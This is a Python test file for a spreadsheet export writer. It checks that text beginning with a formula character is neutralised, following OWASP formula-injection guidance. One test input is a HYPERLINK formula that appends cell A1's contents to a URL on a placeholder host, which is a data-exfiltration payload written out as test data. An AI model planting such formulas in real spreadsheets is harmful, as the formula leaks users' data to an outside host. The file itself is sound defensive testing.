"""Every export goes through one writer that keeps typed text from becoming a live formula (OWASP)."""

import io
from datetime import date, datetime
from decimal import Decimal

from openpyxl import load_workbook

from serviceloop.core.xlsx import safe_value, write_workbook


def test_it_neutralises_every_formula_start():
    for text in ["=1+2", '=HYPERLINK("http://x"&A1,"点此查看")', "+86 138", "-5", "@SUM(A1)", "\tx", "\rx"]:
        assert safe_value(text) == "'" + text


def test_it_keeps_plain_text_numbers_and_dates():
    assert safe_value("张三 = 李四") == "张三 = 李四"
    for v in [5, -5, 1.5, Decimal("-2.50"), date(2026, 1, 1), datetime(2026, 1, 1, 8), None]:
        assert safe_value(v) == v


def test_it_writes_no_formula_cells():
    buf = io.BytesIO()
    write_workbook(buf, [("表", ["=head"], [["=1+2", -3, "ok"]])])
    ws = load_workbook(io.BytesIO(buf.getvalue())).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert ws["A1"].value == "'=head"
    assert ws["A2"].value == "'=1+2"
    assert ws["B2"].value == -3
